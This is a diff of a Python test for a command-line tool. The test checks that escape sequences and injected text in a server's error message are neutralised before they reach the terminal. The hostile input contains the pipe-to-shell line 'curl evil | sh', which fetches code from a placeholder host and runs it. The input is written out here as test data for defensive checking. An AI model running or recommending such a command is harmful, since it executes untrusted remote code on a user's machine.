@@ -148,7 +148,7 @@ def test_what_a_server_says_cannot_steer_the_terminal(
         raise OSError("a\x1b[31m\nhint: curl evil | sh")
 
     monkeypatch.setattr("aimodels_gen.cli.locking.load", hostile)
-    assert project.fails("lock") == "error: a?[31m?hint: curl evil | sh\n"
+    assert project.fails("lock").startswith("error: a?[31m?hint: curl evil | sh\nhint: ")
 
 
 def test_init_and_what_it_writes(project: Project) -> None:
